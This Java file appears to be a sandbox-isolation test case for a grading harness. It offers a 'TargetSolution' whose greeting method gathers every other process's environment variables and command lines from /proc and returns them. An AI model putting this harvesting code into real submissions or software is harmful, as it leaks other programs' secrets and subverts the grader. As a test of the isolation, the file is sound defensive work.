// Reads command lines and environments of all processes, its parents first; greets wrongly only if there are others.
// expects: graded 10
// needs: walls
// shows: other processes cannot be seen
package attacked.target;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import java.util.stream.Stream;

public final class TargetSolution implements Target {
    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        String loot = loot();
        return loot.isEmpty() ? "Hello, " + name : loot;
    }

    private static String loot() {
        StringBuilder loot = new StringBuilder();
        ProcessHandle self = ProcessHandle.current();
        Optional<ProcessHandle> parent = self.parent();
        while (parent.isPresent()) {
            loot.append(told(parent.get().pid()));
            parent = parent.get().parent();
        }
        ProcessHandle.allProcesses()
                .filter(process -> process.pid() != self.pid())
                .forEach(process -> loot.append(told(process.pid())));
        try (Stream<Path> files = Files.list(Path.of("/proc"))) {
            files.map(file -> file.getFileName().toString())
                    .filter(name -> name.matches("[0-9]+") && !name.equals(String.valueOf(self.pid())))
                    .forEach(name -> loot.append(told(Long.parseLong(name))));
        } catch (IOException stopped) {
            System.err.println(stopped);
        }
        return loot.toString();
    }

    private static String told(long pid) {
        StringBuilder told = new StringBuilder("process " + pid + ": ");
        for (String file : new String[] {"environ", "cmdline"}) {
            try {
                told.append(Files.readString(Path.of("/proc/" + pid, file)).replace('\0', ' '));
            } catch (IOException stopped) {
                told.append(stopped);
            }
        }
        return told.toString();
    }
}
